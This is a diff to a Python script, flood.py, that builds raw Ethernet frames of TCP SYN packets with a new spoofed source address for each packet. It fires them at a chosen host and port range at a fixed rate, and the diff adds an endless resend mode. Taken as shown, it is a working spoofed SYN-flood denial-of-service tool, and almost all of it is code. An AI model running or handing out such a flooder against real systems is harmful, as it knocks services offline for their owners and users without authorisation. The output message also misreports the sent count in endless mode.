@@ -3,9 +3,12 @@
 
     flood.py INTERFACE SOURCE_MAC DESTINATION_MAC DESTINATION PER_SECOND SECONDS [FIRST_PORT LAST_PORT]
 
-The sources are 11.0.0.0 and the addresses after it, a new one for each SYN, so every SYN is a knock of its own.
-All frames are made before the first is sent. Prints "ready", and at the end how many were sent in what time.
+The sources are 11.0.0.0 and the addresses after it, a new one for each SYN. All frames are made before the first is
+sent. SECONDS may be Infinity: then the frames of three seconds are sent again and again. Prints "ready", and at the end
+how many frames were sent and in what time.
 """
+import itertools
+import math
 import socket
 import struct
 import sys
@@ -21,25 +24,28 @@ def main():
     first_port, last_port = (int(port) for port in sys.argv[7:9] or (1, 1000))
     ethernet = mac(destination_mac) + mac(source_mac) + b'\x08\x00'
     target = struct.unpack('!I', socket.inet_aton(destination))[0]
-    count = int(per_second * seconds)
+    is_endless = math.isinf(seconds)
+    count = int(per_second * (3 if is_endless else seconds))
     ports = last_port - first_port + 1
     frames = [ethernet + syn(FIRST_SOURCE + i, target, 1024 + i % 60000, first_port + i % ports) for i in range(count)]
     print('ready', flush=True)
-    took = send(interface, frames, per_second)
+    starts = itertools.count if is_endless else lambda start, step: range(start, count, step)
+    took = send(interface, frames, per_second, starts)
     print(f'sent {count} frames in {took:.3f} s', flush=True)
 
 
-def send(interface, frames, per_second):
-    """Bursts on a fixed timetable: a late one is made good by the next ones."""
+def send(interface, frames, per_second, starts):
+    """Sends bursts on a fixed timetable. After a late burst the next ones catch up."""
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     link.bind((interface, 0))
     burst = max(1, per_second // BURSTS_PER_SECOND)
     start = time.monotonic()
-    for sent in range(0, len(frames), burst):
+    for sent in starts(0, burst):
         wait = start + sent / per_second - time.monotonic()
         if wait > 0:
             time.sleep(wait)
-        for frame in frames[sent:sent + burst]:
+        first = sent % len(frames)
+        for frame in frames[first:first + burst]:
             link.send(frame)
     return time.monotonic() - start
 
